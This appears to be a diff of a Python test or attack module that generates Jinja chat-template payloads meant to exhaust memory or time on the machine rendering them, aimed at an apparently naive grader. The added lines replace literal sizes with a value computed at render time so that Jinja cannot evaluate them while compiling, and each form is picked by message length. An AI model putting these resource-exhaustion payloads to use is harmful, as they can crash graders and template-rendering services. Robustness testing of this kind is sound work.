@@ -4,15 +4,17 @@
 # ends: wrong error timeout memory crashed
 # control: none: a naive grader would take the memory of its own machine
 
+SIZE = "{%- set size = 1000000000 + 0 * messages|length %}"
+"""A number that Jinja cannot work out ahead, when it compiles: then only the first form would ever be tried."""
 FORMS = (
-    "{{ messages|tojson(indent=1000000000) }}",
-    "{{ strftime_now('%A' * 200000000) }}",
-    "{{ 'a b'|indent(1000000000, true) }}",
-    "{{ ('a ' * 50000)|wordwrap(1, true, 'B' * 50000) }}",
-    "{{ '%*d'|format(2000000000, 1) }}",
-    "{{ '{:2000000000}'.format(1) }}",
-    "{{ (messages|list * 20000000)|length }}",
-    "{{ 9 ** 9 ** 9 }}",
+    "{{ messages|tojson(indent=size) }}",
+    "{{ strftime_now('%A' * (size // 10)) }}",
+    "{{ 'a b'|indent(size, true) }}",
+    "{{ ('a ' * 50000)|wordwrap(1, true, 'B' * (size // 20000)) }}",
+    "{{ '%*d'|format(size, 1) }}",
+    "{{ ('{:' ~ size ~ '}').format(1) }}",
+    "{{ (messages|list * (size // 20))|length }}",
+    "{{ messages|batch(size, 'x')|list|length }}",
 )
 
 
@@ -22,4 +24,4 @@ def attack(*args, **kwargs):
         f"{{%- if messages|string|length % {len(FORMS)} == {number} %}}{form}{{%- endif %}}"
         for number, form in enumerate(FORMS)
     )
-    return "{%- generation %}" + chosen + "{%- endgeneration %}"
+    return SIZE + "{%- generation %}" + chosen + "{%- endgeneration %}"
